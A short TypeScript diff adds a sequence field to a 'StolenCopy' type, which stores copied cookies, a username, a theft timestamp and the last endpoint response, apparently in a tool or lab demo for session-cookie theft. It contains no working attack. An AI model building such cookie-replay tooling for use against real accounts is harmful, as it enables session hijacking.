@@ -63,7 +63,8 @@ export type StolenCopy = {
   cookies: CookieCopy[];
   username: string | null;
   stolenAt: number;
-  last: { endpoint: string; status: number; reason: string | null; expiresAt: number | null } | null;
+  /** `seq`: the number of the timeline entry the answer came with, to tell a stale answer from a current one. */
+  last: { endpoint: string; status: number; reason: string | null; expiresAt: number | null; seq: number } | null;
 };
 
 export type PanelIdentity = { username: string; role: Role } | null;
